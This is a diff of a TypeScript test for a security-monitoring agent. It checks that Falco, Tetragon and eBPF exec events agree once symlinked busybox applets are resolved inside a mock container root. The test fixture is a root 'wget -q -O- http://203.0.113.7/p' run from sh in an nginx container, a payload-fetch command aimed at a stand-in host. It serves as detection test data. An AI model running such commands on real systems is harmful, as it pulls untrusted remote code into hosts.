@@ -3,9 +3,13 @@
  * way each tool reports it: Falco's JSON output (proc.cmdline joins argv with spaces), Tetragon's
  * JSON export (`arguments` quotes an argument holding a space) and the eBPF source's bpftrace lines
  * (argv as NUL-separated bytes), and all three go through their real decoders. The process fields
- * (core/event.ts's contract) and the baseline entries (core/entry.ts) must be equal.
+ * (core/event.ts's contract) and the baseline entries (core/entry.ts) must be equal. A program reached
+ * through a symlink also goes through the agent's executable resolver (agent/container-path.ts), in a
+ * real directory tree standing in for the container's root.
  */
 import test from 'ava';
+import { rmSync } from 'node:fs';
+import { createExecutableResolver } from '../../agent/container-path.js';
 import { isRejected, parseFalcoLine } from '../../agent/sources/falco-event.js';
 import { parseTetragonLine } from '../../agent/sources/tetragon-event.js';
 import { createEbpfDecoder, type ProcessResolver } from '../../agent/sources/ebpf.js';
@@ -13,6 +17,7 @@ import { entryOf, entryId, describeEntry } from '../../core/entry.js';
 import type { ActivityEvent } from '../../core/event.js';
 import { parseCidr } from '../../core/ip.js';
 import { testSourceContext } from '../helpers/source-context.js';
+import { containerdCgroup, makeFakeProc, makeTree } from '../helpers/container-root.js';
 
 const ctx = { node: 'node-1', source: 'test' };
 const ENTRY_OPTIONS = { clusterRanges: ['10.0.0.0/8'].map(parseCidr) };
@@ -27,8 +32,11 @@ interface Exec {
   /** The file the kernel runs (differs from `path` for a symlink). */
   resolved: string;
   argv: string[];
-  parent: { pid: number; exe: string; comm: string; argv: string[] };
+  /** `exe` is the path the parent was invoked by; `resolved` its file, when that differs. */
+  parent: { pid: number; exe: string; resolved?: string; comm: string; argv: string[] };
   uid: number;
+  /** When it ran (ms); default TIME. */
+  time?: number;
 }
 
 function falcoExec(a: Exec): ActivityEvent {
@@ -39,7 +47,7 @@ function falcoExec(a: Exec): ActivityEvent {
     priority: 'Notice',
     rule: 'Run shell untrusted',
     source: 'syscall',
-    time: TIME,
+    time: a.time === undefined ? TIME : new Date(a.time).toISOString(),
     output_fields: {
       'container.id': CID.slice(0, 12),
       'container.image.repository': 'docker.io/library/nginx',
@@ -49,7 +57,7 @@ function falcoExec(a: Exec): ActivityEvent {
       'proc.exepath': a.resolved,
       'proc.name': name,
       'proc.pid': a.pid,
-      'proc.pexepath': a.parent.exe,
+      'proc.pexepath': a.parent.resolved ?? a.parent.exe,
       'proc.pname': a.parent.comm,
       'user.uid': a.uid,
       ...(a.uid === 0 ? { 'user.name': 'root' } : {}),
@@ -82,7 +90,7 @@ function tetragonExec(a: Exec): ActivityEvent {
       parent: { pid: a.parent.pid, uid: 0, binary: a.parent.exe, arguments: tetragonArguments(a.parent.argv) },
     },
     node_name: 'node-1',
-    time: TIME,
+    time: a.time === undefined ? TIME : new Date(a.time).toISOString(),
   };
   const r = parseTetragonLine(JSON.stringify(record), ctx);
   if (isRejected(r)) throw new Error(`tetragon: ${r.reject} ${r.detail}`);
@@ -95,17 +103,17 @@ const hexOf = (s: string | Buffer, pad = 0) => {
 };
 const printf = (data: string) => JSON.stringify({ type: 'printf', data: `${data}\n` });
 
-function ebpfDecoder(parent: Exec['parent']) {
+function ebpfDecoder(parent: Exec['parent'], time?: number) {
   const resolver: ProcessResolver = {
     owner: (_pid, _cg, leaves) => (leaves.some((l) => l.includes(CID)) ? { kind: 'container', id: CID, runtime: 'containerd', podUid: '' } : { kind: 'host' }),
-    // /proc/<ppid>/exe of the live parent.
-    exe: (pid) => (pid === parent.pid ? parent.exe : ''),
+    // /proc/<ppid>/exe of the live parent: the kernel's resolved file.
+    exe: (pid) => (pid === parent.pid ? parent.resolved ?? parent.exe : ''),
   };
-  return createEbpfDecoder({ ctx: testSourceContext(), source: 'ebpf', clock: (ns) => ns / 1e6, resolver, now: () => 0 });
+  return createEbpfDecoder({ ctx: testSourceContext(), source: 'ebpf', clock: (ns) => time ?? ns / 1e6, resolver, now: () => 0 });
 }
 
 function ebpfExec(a: Exec): ActivityEvent {
-  const d = ebpfDecoder(a.parent);
+  const d = ebpfDecoder(a.parent, a.time);
   const argv = Buffer.from(`${a.argv.join('\0')}\0`);
   // sched_process_exec: the header, the cgroup, the exec'd file name (the invoked path) and argv.
   d.line(printf(`X 5000000 ${a.pid} ${a.parent.pid} ${a.uid} 77 ${argv.length} ${hexOf(a.parent.comm, 16)}`));
@@ -149,20 +157,44 @@ for (const [what, activity] of ACTIVITIES) {
   });
 }
 
-test('a busybox applet reached through its symlink (/usr/bin/wget → /bin/busybox): the same name, arguments and parent; the executable as each source can know it', (t) => {
-  const activity: Exec = { pid: 203, path: '/usr/bin/wget', resolved: '/bin/busybox', argv: ['wget', '-q', '-O-', 'http://203.0.113.7/p'], parent: { pid: 200, exe: '/bin/sh', comm: 'sh', argv: ['sh'] }, uid: 0 };
+test('a busybox applet reached through its symlink (/usr/bin/wget → /bin/busybox, parent /bin/sh → /bin/busybox): the same event and entry from all three once the agent resolves the path in the container', (t) => {
+  // The container's root: Alpine's busybox with its applet links, one absolute, one relative.
+  const root = makeTree({ 'bin/busybox': 'ELF busybox', 'bin/sh': { link: 'busybox' }, 'usr/bin/wget': { link: '/bin/busybox' } });
+  const proc = makeFakeProc([
+    { pid: 203, cgroup: containerdCgroup(CID), root },
+    { pid: 200, cgroup: containerdCgroup(CID), root },
+  ]);
+  t.teardown(() => {
+    rmSync(root, { recursive: true, force: true });
+    proc.cleanup();
+  });
+  const activity: Exec = {
+    pid: 203,
+    path: '/usr/bin/wget',
+    resolved: '/bin/busybox',
+    argv: ['wget', '-q', '-O-', 'http://203.0.113.7/p'],
+    parent: { pid: 200, exe: '/bin/sh', resolved: '/bin/busybox', comm: 'sh', argv: ['sh'] },
+    uid: 0,
+    // After the tree was made: a link younger than the exec could not have been what it ran through.
+    time: Date.now(),
+  };
   const [falco, tetragon, ebpf] = [falcoExec(activity), tetragonExec(activity), ebpfExec(activity)];
-  const { exe: _f, ...falcoRest } = processView(falco);
-  const { exe: _t, ...tetragonRest } = processView(tetragon);
-  const { exe: _e, ...ebpfRest } = processView(ebpf);
-  t.deepEqual(tetragonRest, falcoRest);
-  t.deepEqual(ebpfRest, falcoRest);
-  t.is(falcoRest.name, 'wget', 'the applet is the invoked name from every source');
-  // Falco resolves the executable (proc.exepath); Tetragon's binary and the eBPF file name are the
-  // path handed to execve and carry no resolved path (core/event.ts documents the contract).
+  // As the sources give them: Falco resolved (proc.exepath), Tetragon's binary and eBPF's file name as invoked.
   t.is(falco.process.exe, '/bin/busybox');
   t.is(tetragon.process.exe, '/usr/bin/wget');
   t.is(ebpf.process.exe, '/usr/bin/wget');
+  t.is(tetragon.process.parentExe, '/bin/sh');
+
+  // The agent's pipeline resolves every source's events, Falco's too (an old Falco's exepath is the invoked path).
+  const resolver = createExecutableResolver({ procRoot: proc.procRoot }, { now: Date.now, count: () => {} });
+  for (const ev of [falco, tetragon, ebpf]) resolver.resolve([ev], ev.source);
+  t.deepEqual(processView(tetragon), processView(falco), 'Tetragon = Falco');
+  t.deepEqual(processView(ebpf), processView(falco), 'eBPF = Falco');
+  t.like(processView(falco), { exe: '/bin/busybox', name: 'wget', parentExe: '/bin/busybox', parentName: 'sh' });
+  const ids = [falco, tetragon, ebpf].map((ev) => entryId(entryOf(ev, ENTRY_OPTIONS)!));
+  t.is(ids[1], ids[0], `Tetragon's entry is Falco's: ${describeEntry(entryOf(falco, ENTRY_OPTIONS)!)}`);
+  t.is(ids[2], ids[0], "eBPF's entry is Falco's");
+  t.is(describeEntry(entryOf(falco, ENTRY_OPTIONS)!), '/bin/busybox (wget) -q -O- http://<ip>/p (parent busybox, root)');
 });
 
 test('one connection, one entry from Falco (fd.name), Tetragon (process_connect and the tcp_connect kprobe) and eBPF', (t) => {
